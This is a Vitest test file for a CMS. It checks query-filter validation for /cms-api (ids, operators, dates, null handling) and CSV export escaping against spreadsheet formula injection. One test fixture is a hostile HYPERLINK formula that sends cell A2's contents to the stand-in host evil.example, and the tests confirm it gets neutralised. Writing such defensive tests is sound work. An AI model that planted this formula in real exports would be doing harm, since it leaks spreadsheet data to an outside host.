// The rules that keep malformed /cms-api filters out of the database, and the spreadsheet escaping of CSV exports.
import { describe, expect, it } from 'vitest'

import { isRecordId, queryValueProblem, type QueryFieldKind } from '@/cms/query/valueRules'
import { spreadsheetSafe, spreadsheetSafeRow } from '@/lib/spreadsheetCell'

const id: QueryFieldKind = { kind: 'id', hasMany: false }
const text: QueryFieldKind = { kind: 'text', hasMany: false }
const date: QueryFieldKind = { kind: 'date' }
const status: QueryFieldKind = { kind: 'choice', options: ['draft', 'published'], hasMany: false }

describe('record ids', () => {
  it('are whole numbers that fit an integer column', () => {
    expect([1, '42', 2_147_483_647].map(isRecordId)).toEqual([true, true, true])
    expect(['abc', '', NaN, Infinity, 1.5, '1e400', 2_147_483_648, '99999999999', null].map(isRecordId)).toEqual(Array(9).fill(false))
  })
})

describe('where values', () => {
  it('accepts what the database can compare', () => {
    expect(queryValueProblem(id, 'in', '1,2,3')).toBeNull()
    expect(queryValueProblem(id, 'equals', 'null')).toBeNull()
    expect(queryValueProblem(date, 'greater_than', '2026-01-01')).toBeNull()
    expect(queryValueProblem(date, 'less_than', new Date())).toBeNull()
    expect(queryValueProblem(status, 'equals', 'published')).toBeNull()
    expect(queryValueProblem(text, 'like', 'anything at all')).toBeNull()
    expect(queryValueProblem({ kind: 'checkbox' }, 'equals', 'TRUE')).toBeNull()
    expect(queryValueProblem({ kind: 'number', hasMany: false }, 'greater_than', '-2.5')).toBeNull()
    expect(queryValueProblem({ kind: 'unchecked' }, 'near', 'anything')).toBeNull()
  })

  it('names the value or operator that cannot be run', () => {
    expect(queryValueProblem(id, 'in', '1,2,abc')).toBe('"abc" is not a valid id')
    expect(queryValueProblem(id, 'equals', '1e400')).toBe('"1e400" is not a valid id')
    expect(queryValueProblem(text, 'near', '1,2')).toBe('the operator "near" cannot be used on this field')
    expect(queryValueProblem(text, 'all', 'a')).toBe('the operator "all" cannot be used on this field')
    expect(queryValueProblem(date, 'greater_than', 'notadate')).toBe('"notadate" is not a valid date')
    expect(queryValueProblem(date, 'like', '2026')).toBe('the operator "like" cannot be used on this field')
    expect(queryValueProblem(status, 'equals', 'bogus')).toBe('"bogus" must be one of draft, published')
    expect(queryValueProblem(text, 'equals', { a: 'b' })).toBe('needs a single value')
    expect(queryValueProblem(text, 'exists', 'maybe')).toBe('must be true or false')
    expect(queryValueProblem({ kind: 'structure' }, 'equals', 'x')).toBe('the operator "equals" cannot be used on this field')
    expect(queryValueProblem({ kind: 'json' }, 'like', 'x')).toBe('the operator "like" cannot be used on this field')
  })

  it('reads "null" as null only where the adapters do: a single id, number or date', () => {
    expect(queryValueProblem(id, 'equals', 'null')).toBeNull()
    expect(queryValueProblem(id, 'in', [null, 1])).toBeNull()
    expect(queryValueProblem(id, 'in', 'null')).toBe('"null" is not a valid id')
    expect(queryValueProblem(status, 'equals', 'null')).toBe('"null" must be one of draft, published')
    expect(queryValueProblem({ kind: 'id', hasMany: false, linkPart: true }, 'equals', 'null')).toBe('"null" is not a valid id')
    expect(queryValueProblem({ kind: 'checkbox' }, 'equals', 'null')).toBe('"null" must be true or false')
  })

  it('matches text against one text, or any of a list only for hasMany fields', () => {
    expect(queryValueProblem(text, 'like', ['a', 'b'])).toBe('needs a single text')
    expect(queryValueProblem({ kind: 'text', hasMany: true }, 'contains', ['a', 'b'])).toBeNull()
  })
})

describe('spreadsheet cells', () => {
  it('prefixes text that a spreadsheet would run as a formula with a quote', () => {
    const cells = ['=HYPERLINK("http://evil.example/?leak="&A2,"Open")', '+91 98220 12345', '-1+2', '@SUM(A1)', '\t=1', '\r=1']
    expect(cells.map(spreadsheetSafe)).toEqual(cells.map((cell) => `'${cell}`))
  })

  it('leaves other text, numbers and empty cells alone', () => {
    expect(spreadsheetSafeRow({ name: 'Asha Patil', mail: 'a=b@example.in', count: -3, empty: '', none: null })).toEqual({
      name: 'Asha Patil',
      mail: 'a=b@example.in',
      count: -3,
      empty: '',
      none: null,
    })
  })
})
